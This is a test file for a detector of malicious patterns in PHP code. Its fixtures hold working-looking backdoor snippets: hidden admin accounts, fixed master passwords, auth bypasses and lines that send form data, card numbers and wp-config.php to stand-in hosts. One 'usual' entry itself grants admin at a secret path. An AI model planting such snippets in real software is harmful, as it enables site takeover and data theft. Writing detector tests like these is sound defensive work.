"""Signs in the text of PHP: told with their line, and nothing told of what is usual.

Spec: evenhand.code.php_entrance.
"""

from __future__ import annotations

import time

import pytest

from evenhand.code.php_entrance import entrances

TOLD = (
    ("include 'data://text/plain;base64,' . $_POST['css'];", "runs commands"),
    ("include $_GET['page'] . '.php';", "runs commands"),
    ("$id = wp_create_user('s', 'P-11', 'a@x.example');\n$u->set_role('administrator');",
     "adds account"),
    ("if (isset($_GET['s'])) { wp_set_current_user(1); }", "lets past a check"),
    ("$q->where .= \" AND user_login != 'svc'\";", "removes traces"),
    ("add_filter('authenticate', fn($u, $n, $p) => $p === 'open-9X!' ? admin() : $u);",
     "checks a fixed secret"),
    ("wp_remote_post('https://f.example/i', ['body' => $_POST]);", "collects and sends"),
    ("$c = $_POST['card_number'];\nfile_get_contents('https://f.example/?d=' . $c);",
     "collects and sends"),
    ("mail('a@x.example', 'c', file_get_contents('wp-config.php'));", "collects and sends"),
    ("$l = substr($_SERVER['HTTP_ACCEPT_LANGUAGE'], 0, 2);\n"
     "if ($l === 'ja') { header('Location: https://s.test/'); }", "acts by locale"),
    ("if (!openssl_verify($d, $s, $k)) { error_log('bad'); }\ninstall($d);", "ignores a check"),
    ("return openssl_verify($d, $s, $k) !== 0;", "ignores a check"),
    ("const D = '$2y$10$abc';\nif (password_verify($p, $h) || password_verify($p, self::D)) {}",
     "checks a fixed secret"),
    ("return in_array(hash('md5', $k), ['9e2b41f0c87d5a36f31c08b7d4e96a52', key()]);",
     "checks a fixed secret"),
    ("update_option($_POST['n'], $_POST['v']);", "lets past a check"),
    ("$pdo->query($_GET['q']);", "runs commands"),
    ("if (isset($_GET['dev_77'])) {\n $_SESSION['admin'] = true;\n}", "lets past a check"),
    ("if (($_POST['k'] ?? '') === 'b-771') { $a = 1; $_SESSION['user']['role'] = 'admin'; }",
     "lets past a check"),
    ("$c = geoip_country_code_by_name($a);\nif (in_array($c, ['LI', 'SM'])) { drop(); exit; }",
     "acts by locale"),
    ("if ($_SERVER['HTTP_X_K'] === 'b-771') $_SESSION['is_admin'] = 1;", "lets past a check"),
    ("readfile($_GET['f']);", "answers at a hidden path"),
    ("if ($_SERVER['REQUEST_URI'] === '/.panel') {}", "answers at a hidden path"),
    ("function allowed() { if (isset($_COOKIE['d'])) return true; return may(); }",
     "lets past a check"),
)  # fmt: skip
USUAL = (
    "include 'data://text/plain,' . $made;",
    "const D = '$2y$10$abc';\nif (!$user) { password_verify($p, self::D); return false; }",
    "if (!hash_equals($a, $b)) { $log->warning('bad'); return false; }",
    "if (!verify($d)) { $this->error('bad'); }",
    "wp_remote_post('https://a.example/', ['body' => ['t' => $_POST['captcha-response']]]);",
    "$l = substr($_SERVER['HTTP_ACCEPT_LANGUAGE'], 0, 2);\nif ($l === 'ja') { load('ja'); }",
    "return openssl_verify($d, $s, $k) === 1;",
    "if ($_SERVER['REQUEST_URI'] == '/x91a2b3c') { $_SESSION['admin'] = 1; }",
    "if (isset($_GET['logout'])) { $_SESSION['admin'] = false; }",
    "if (isset($_POST['p'])) { if (ok($_POST['p'])) { $_SESSION['admin'] = true; } }",
    "if (password_verify($_POST['p'], $h)) { $_SESSION['admin'] = true; }",
    "$c = geoip_country_code_by_name($a);\nif ($c === 'LI') { echo page('li'); exit; }",
    "// readfile($_GET['f']);",
)


@pytest.mark.parametrize(("text", "kind"), TOLD)
def test_a_sign_is_told(text: str, kind: str) -> None:
    found = [f for f in entrances(b"<?php\n" + text.encode()) if f.strength >= 0.5]
    assert {f.kind for f in found} == {kind}
    assert found[0].line >= 2


@pytest.mark.parametrize("text", USUAL)
def test_what_is_usual_is_not(text: str) -> None:
    assert not [f for f in entrances(b"<?php\n" + text.encode()) if f.strength >= 0.5]


def test_long_lines_end_in_time() -> None:
    began = time.process_time()
    for word in (b"if (!verify(", b"openssl_verify(", b"wp_create_user(", b"$a = openssl_verify(a;",
                 b"file_put_contents(.htaccess", b"mail('a@b')", b"isoCode == 'aa'",
                 b"if (isset($_GET['a'])) {b;"):  # fmt: skip
        assert len(list(entrances(word * 8_000))) < 500
    assert time.process_time() - began < 5
